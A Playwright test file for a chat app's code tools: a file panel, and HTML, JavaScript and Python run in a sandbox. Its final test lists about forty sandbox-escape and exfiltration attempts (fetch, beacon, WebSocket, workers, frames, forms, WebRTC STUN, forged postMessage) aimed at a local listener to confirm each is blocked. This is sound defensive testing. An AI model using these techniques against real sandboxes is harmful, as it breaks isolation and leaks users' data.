// What the chat can do beside talking: questions about code by one press, files in a panel, code that runs in a sandbox.
import { createSocket } from "node:dgram";
import { readFileSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { type Page } from "@playwright/test";
import { expect, isAccessible, Person, test } from "./fixtures";

/** Asks for an answer in which this stands: the scripted model says again what it is told. */
async function answerWith(person: Person, text: string) {
  const count = await person.replies.count();
  await person.ask(`Write:\n\n${text}\n`);
  await expect(person.replies).toHaveCount(count + 1);
  // Its words come one by one.
  await expect(person.replies.nth(-1)).toHaveAttribute("aria-busy", "false", { timeout: 90_000 });
}

const code = (language: string, text: string) => `\`\`\`${language}\n${text}\n\`\`\``;
/** What came of the code that was run last. */
const result = (page: Page) => page.getByRole("region", { name: "Result" }).last();
const told = (page: Page) => result(page).getByRole("log");

async function runLast(page: Page, person: Person) {
  await person.replies.last().getByRole("button", { name: "Run", exact: true }).first().click();
}

test("a question about code is sent by one press, and put before what is written already", async ({ person, quietPage: page }) => {
  await person.signUp();
  await person.ask("Hello");
  await person.replyIsWhole();
  const actions = person.replies.first().getByRole("button", { name: "Actions for this code" });
  await actions.click();
  const list = page.getByRole("dialog", { name: "Actions for this code" });
  await expect(list.getByRole("button", { name: "Explain" })).toBeFocused();
  await isAccessible(page);
  await page.keyboard.press("Escape");
  await expect(list).toHaveCount(0);
  await expect(actions).toBeFocused();

  await page.keyboard.press("Enter");
  await page.keyboard.press("ArrowDown");
  await expect(list.getByRole("button", { name: "Find faults" })).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(person.questions).toHaveCount(2);
  await expect(person.questions.nth(1)).toContainText(/Find what is wrong.*```rust\s+fn main\(\) \{/s);
  await person.replyIsWhole(1);

  await person.composer.fill("Keep it short.");
  await actions.click();
  await list.getByLabel("Language to translate to").selectOption("Go");
  await list.getByRole("button", { name: "Translate" }).click();
  await expect(person.composer).toHaveValue(/^Translate this code to Go\.\n\n```rust\n[^]*```\n\nKeep it short\.$/);
  await expect(person.questions).toHaveCount(2);
});

const page1 = '<link rel="stylesheet" href="style.css">\n<p id="p">One</p>\n<script src="app.js"></script>';
const script1 = 'document.title = getComputedStyle(p).color;\nconsole.log(document.title, p.textContent);';

test("files of answers stand beside the chat, with versions, differences and downloads", async ({ person, quietPage: page }) => {
  await person.signUp();
  await page.setViewportSize({ width: 1300, height: 800 });
  const style = code("css title=style.css", "p { color: rgb(1, 2, 3) }");
  await answerWith(person, `${code("html index.html", page1)}\n\n${style}\n\n${code("js app.js", script1)}`);
  await answerWith(person, code("html index.html", page1.replace("One", "Two")));

  const open = person.replies.first().getByRole("button", { name: "3 files" });
  await open.click();
  const panel = page.getByRole("dialog", { name: "Files" });
  await expect(panel.getByRole("tab")).toHaveText(["index.html", "style.css", "app.js"]);
  await expect(panel.getByRole("tabpanel")).toContainText("One");
  await isAccessible(page);
  await page.emulateMedia({ colorScheme: "dark" });
  await isAccessible(page);

  // The page runs with the files that it names.
  await panel.getByRole("button", { name: "Run" }).click();
  await expect(told(page)).toHaveText("rgb(1, 2, 3) One");

  await page.keyboard.press("Escape");
  await expect(panel).toHaveCount(0);
  await person.replies.nth(1).getByRole("button", { name: "1 file" }).click();
  await expect(panel.getByRole("tabpanel")).toContainText("Two");
  await expect(panel.getByLabel("Version")).toHaveValue("2");
  await panel.getByLabel("Compare with").selectOption("1");
  await expect(panel.locator("del mark")).toHaveText("One");
  await expect(panel.locator("ins mark")).toHaveText("Two");
  await isAccessible(page);
  await panel.getByLabel("Compare with").selectOption("");
  await panel.getByLabel("Version").selectOption("1");
  await expect(panel.getByRole("tabpanel")).toContainText("One");

  const file = page.waitForEvent("download");
  await panel.getByRole("link", { name: "Download this file" }).click();
  expect((await file).suggestedFilename()).toBe("index.html");
  expect(readFileSync(await (await file).path(), "utf8")).toBe(`${page1}\n`);
  const zip = page.waitForEvent("download");
  await panel.getByRole("link", { name: "Download all as zip" }).click();
  expect(readFileSync(await (await zip).path()).subarray(0, 2).toString()).toBe("PK");
});

test("on a narrow page the panel covers the chat, by keyboard too", async ({ person, quietPage: page }) => {
  await page.setViewportSize({ width: 320, height: 640 });
  await person.signUp();
  await answerWith(person, `${code("py a.py", "print(1)")}\n\n${code("py b.py", "print(2)")}`);
  const open = person.replies.first().getByRole("button", { name: "2 files" });
  await open.focus();
  await page.keyboard.press("Enter");
  const panel = page.getByRole("dialog", { name: "Files" });
  await expect(panel.getByRole("tab", { name: "a.py" })).toBeFocused();
  expect(await panel.boundingBox()).toMatchObject({ x: 0, width: 320 });
  await page.keyboard.press("ArrowRight");
  await expect(panel.getByRole("tab", { name: "b.py" })).toBeFocused();
  await expect(panel.getByRole("tabpanel")).toContainText("print(2)");
  await isAccessible(page);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
  await page.keyboard.press("Escape");
  await expect(panel).toHaveCount(0);
  await expect(open).toBeFocused();
});

test("HTML runs, tells what its console is told, and an error is sent back to be mended", async ({ person, quietPage: page }) => {
  await person.signUp();
  const text = '<h1>Hello</h1>\n<script>\nconsole.log("count: %d", 3, { a: [1, "b"] });\nnothing.here();\n</script>';
  await answerWith(person, code("html", text));
  await runLast(page, person);
  await expect(result(page).frameLocator("iframe").getByRole("heading", { name: "Hello" })).toBeVisible();
  await expect(told(page)).toContainText('count: 3 { a: [1, "b"] }');
  await expect(told(page)).toContainText("ReferenceError: nothing is not defined");
  await isAccessible(page);
  await result(page).getByRole("button", { name: "Fix this error" }).click();
  await expect(person.questions).toHaveCount(2);
  await expect(person.questions.nth(1)).toContainText(/gives the error below.*<h1>Hello.*ReferenceError: nothing/s);
});

test("scripts run, in a page when they need one, and as modules", async ({ person, quietPage: page }) => {
  await person.signUp();
  for (const [text, said] of [
    ["const sum = [1, 2].reduce((a, b) => a + b);\nconsole.log(sum, new Map([[1, { a: null }]]));", "3 Map(1) {1 => { a: null }}"],
    ["document.body.textContent = 'in a page';\nconsole.log(document.body.textContent);", "in a page"],
    ["const late = await Promise.resolve('late');\nconsole.log(late);", "late"],
    ["const connect = 1, start = 2;\nconsole.log(connect + start);", "3"],
    ["throw new TypeError('on purpose');", "TypeError: on purpose"],
  ]) {
    await answerWith(person, code("js", text));
    await runLast(page, person);
    await expect(told(page)).toContainText(said);
    await result(page).getByRole("button", { name: "Close" }).click();
  }
});

test("SVG, CSS and Mermaid are shown; a diagram that is wrong says why", async ({ person, quietPage: page }) => {
  test.slow();
  await person.signUp();
  await answerWith(person, code("svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>Dot</title><circle r="4"/></svg>'));
  await runLast(page, person);
  await expect(result(page).frameLocator("iframe").locator("svg circle")).toBeVisible();
  await answerWith(person, code("css", "button { color: rgb(4, 5, 6) }"));
  await runLast(page, person);
  await expect(result(page).frameLocator("iframe").getByRole("button", { name: "Button" })).toHaveCSS("color", "rgb(4, 5, 6)");
  await answerWith(person, code("mermaid", "flowchart TD\n  A[First] --> B[Second]"));
  await runLast(page, person);
  await expect(result(page).frameLocator("iframe").getByText("Second")).toBeVisible();
  await answerWith(person, code("mermaid", "flowchart TD\n  A[First --> B"));
  await runLast(page, person);
  await expect(told(page)).toContainText("Parse error");
  await expect(result(page).getByRole("button", { name: "Fix this error" })).toBeVisible();
});

test("Python runs with its standard library, and its weight comes when it is run", async ({ person, quietPage: page }) => {
  test.slow();
  const heavy: string[] = [];
  page.on("request", (request) => request.url().includes("/vendor/") && heavy.push(request.url()));
  await person.signUp();
  await answerWith(person, code("python", "import math, json\nprint(json.dumps({'root': math.isqrt(81)}))\nprint(1 / 0)"));
  expect(heavy).toEqual([]);
  await runLast(page, person);
  await expect(told(page)).toContainText('{"root": 9}', { timeout: 90_000 });
  await expect(told(page)).toContainText("ZeroDivisionError");
  expect(heavy.length).toBeGreaterThan(3);
  await answerWith(person, code("python", "import js\ntry:\n    js.XMLHttpRequest.new().open('GET', '/')\n    x = js.XMLHttpRequest.new(); x.open('GET', 'http://127.0.0.1:9/', False); x.send()\n    print('escaped')\nexcept Exception as e:\n    print('refused')"));
  await runLast(page, person);
  await expect(told(page)).toContainText("refused", { timeout: 90_000 });
});

test("what never ends holds up nobody: it is stopped by the reader, or by itself", async ({ person, quietPage: page }) => {
  await person.signUp();
  await answerWith(person, code("js", "console.log('begun');\nwhile (true) {}"));
  await runLast(page, person);
  await expect(told(page)).toHaveText("begun");
  await result(page).getByRole("button", { name: "Stop" }).click();
  await expect(result(page)).toContainText("Stopped.");
  await expect(page.locator(".run-frame")).toHaveCount(0);
  await answerWith(person, code("html", "<script>console.log('begun'); while (true) {}</script>"));
  await runLast(page, person);
  await expect(result(page)).toContainText("It did not answer for 5 seconds");
  await answerWith(person, code("js", "for (let n = 0; n < 5000; n++) console.log(n);"));
  await runLast(page, person);
  await expect(told(page).locator("p")).toHaveCount(1001);
});

/** WebRTC, which no content security policy closes. */
const STUN = "const p = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((then) => setTimeout(then, 1500));";
/** Ways out of the sandbox, each as a function body; `there` is an address elsewhere, `here` the server's. */
const ways: Record<string, string> = {
  cookie: "document.cookie = 'escaped=1'; return document.cookie",
  localStorage: "localStorage.setItem('escaped', '1'); return 1",
  sessionStorage: "sessionStorage.setItem('escaped', '1'); return 1",
  indexedDB: "return await new Promise((yes, no) => { const o = indexedDB.open('escaped'); o.onsuccess = yes; o.onerror = no })",
  caches: "return await caches.open('escaped')",
  parent: "return parent.document.body.innerHTML",
  top: "return top.document.title",
  frameElement: "return frameElement.outerHTML",
  parentLocation: "return parent.location.href",
  navigateTop: "top.location.href = there + 'top'; return 0",
  navigateParent: "parent.location.replace(there + 'parent'); return 0",
  popup: "const opened = window.open(there + 'popup'); if (!opened) throw 0; return 1",
  fetchHere: "return (await fetch(here + 'escaped-fetch')).status",
  fetchThere: "return (await fetch(there + 'fetch', { mode: 'no-cors' })).type",
  xhr: "const x = new XMLHttpRequest(); x.open('GET', here + 'escaped-xhr', false); x.send(); return x.status",
  webSocket: "return await new Promise((yes, no) => { const s = new WebSocket(there.replace('http', 'ws')); s.onopen = yes; s.onerror = no })",
  eventSource: "return await new Promise((yes, no) => { const s = new EventSource(there + 'events'); s.onopen = yes; s.onerror = no })",
  beacon: "if (!navigator.sendBeacon(there + 'beacon', 'x')) throw 0; return 0",
  importing: "return await import(there + 'module.js')",
  image: "return await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = there + 'image.png' })",
  imageHere: "return await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = here + 'favicon.svg?escaped' })",
  style: "return await new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = yes; l.onerror = no; l.href = there + 'style.css'; document.head.append(l) })",
  prefetch: "for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'icon']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = there + rel; document.head.append(l) } return 0",
  script: "return await new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = no; s.src = there + 'script.js'; document.head.append(s) })",
  worker: "return await new Promise((yes, no) => { const w = new Worker(there + 'worker.js'); w.onmessage = yes; w.onerror = no })",
  workerFetch: "return await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${there}worker').then(() => postMessage(1), () => { throw 0 })`]))); w.onmessage = yes; setTimeout(no, 1500) })",
  serviceWorker: "return await navigator.serviceWorker.register(here + 'escaped-worker.js')",
  frame: "const f = document.createElement('iframe'); f.src = there + 'frame'; document.body.append(f); return 0",
  frameHere: "const f = document.createElement('iframe'); f.src = here + 'escaped-frame'; document.body.append(f); return 0",
  frameBlank: "const f = document.createElement('iframe'); document.body.append(f); return (await f.contentWindow.fetch(there + 'blank', { mode: 'no-cors' })).type",
  frameSource: "const f = document.createElement('iframe'); f.srcdoc = `<img src='${there}srcdoc'><script>fetch('${there}srcdoc')<\\/script>`; document.body.append(f); return 0",
  object: "const o = document.createElement('object'); o.data = there + 'object'; document.body.append(o); return 0",
  embed: "const o = document.createElement('embed'); o.src = there + 'embed'; document.body.append(o); return 0",
  video: "const v = document.createElement('video'); v.src = there + 'video'; document.body.append(v); await v.play(); return 1",
  form: "const f = document.createElement('form'); f.action = there + 'form'; f.method = 'post'; document.body.append(f); f.submit(); return 0",
  formTop: "const f = document.createElement('form'); f.action = there + 'form-top'; f.target = '_top'; document.body.append(f); f.submit(); return 0",
  link: "const a = document.createElement('a'); a.href = there + 'link'; a.target = '_blank'; a.ping = there + 'ping'; document.body.append(a); a.click(); return 0",
  linkTop: "const a = document.createElement('a'); a.href = there + 'link-top'; a.target = '_top'; document.body.append(a); a.click(); return 0",
  download: "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'escaped.txt'; document.body.append(a); a.click(); return 0",
  forgery: "for (const to of [parent, top]) to.postMessage({ level: 'error', text: 'FORGED' }, '*'); return 0",
  stun: `${STUN} return 0`,
  stunInFrame: `const f = document.createElement('iframe'); f.srcdoc = \`<script>const stun = '\${stun}'; (async () => { ${STUN} })()<\\/script>\`; document.body.append(f); await new Promise((then) => setTimeout(then, 1500)); return 0`,
  preconnect: "for (const rel of ['preconnect', 'dns-prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = there; document.head.append(l) } return 0",
};
/** What leaves the page, so that each is tried in a frame of its own. */
const departures: Record<string, string> = {
  navigateSelf: "<script>location.href = there + 'self'</script>",
  navigateSelfHere: "<script>location.href = here + 'escaped-self'</script>",
  refresh: "<meta http-equiv='refresh' content='0;url=THEREself'>",
  linkSelf: "<a id=a href='THERElink-self'>x</a><script>a.click()</script>",
};

test("no way leads out of the sandbox", async ({ person, page, server, context }) => {
  test.slow();
  const heard: string[] = [];
  const listener = createServer((socket) => {
    heard.push("a connection");
    socket.on("data", (data) => heard.push(data.toString().split("\r\n")[0])).on("error", () => {});
  });
  await new Promise<void>((then) => listener.listen(0, "127.0.0.1", then));
  const stun = createSocket("udp4").on("message", () => heard.push("STUN"));
  await new Promise<void>((then) => stun.bind(0, "127.0.0.1", then));
  const there = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/`;
  const here = `${server.url}/`;
  const addresses = `<script>const there = '${there}', here = '${here}', stun = 'stun:127.0.0.1:${stun.address().port}';</script>`;
  page.on("response", (response) => response.url().includes("escaped") && heard.push(response.url()));
  page.on("download", () => heard.push("download"));
  page.on("popup", () => heard.push("popup"));
  await person.signUp();

  const attempts = Object.entries(ways).map(([name, body]) => `await attempt("${name}", async () => { ${body} });`);
  const attempt = `const attempt = async (name, act) => { let got; try { got = (await act()) === 0 ? "tried" : "ESCAPED" } catch { got = "refused" } console.log(name + ": " + got) };`;
  const all = `${addresses}<body><script>(async () => {\n${attempt}\n${attempts.join("\n")}\nconsole.log("all tried");\n})();</script>`;
  await answerWith(person, code("html", all));
  const address = page.url();
  await runLast(page, person);
  await expect(told(page)).toContainText("all tried", { timeout: 60_000 });
  const lines = await told(page).locator("p").allTextContents();
  expect(lines.filter((line) => line.includes("ESCAPED") || line.includes("FORGED"))).toEqual([]);
  const outcomes = lines.filter((line) => /^\w+: (refused|tried)$/.test(line));
  expect(outcomes.map((line) => line.split(":")[0]).sort()).toEqual(Object.keys(ways).sort());

  for (const body of Object.values(departures)) {
    await answerWith(person, code("html", `${addresses}${body.replace("THERE", there)}`));
    await runLast(page, person);
    await expect(result(page).locator("iframe")).toBeVisible();
    await page.waitForTimeout(700); // that nothing happens can only be waited for
  }
  expect(heard).toEqual([]);
  expect(page.url()).toBe(address);
  expect(context.pages()).toHaveLength(1);
  expect((await context.cookies()).map(({ name }) => name)).not.toContain("escaped");
  expect(await page.evaluate(() => Object.keys(localStorage).concat(Object.keys(sessionStorage)))).not.toContain("escaped");
  await expect(person.composer).toBeVisible();
  listener.close();
  stun.close();

  // As a page of its own it is a stranger too.
  await page.goto("/sandbox");
  expect(await page.evaluate(() => origin)).toBe("null");
});
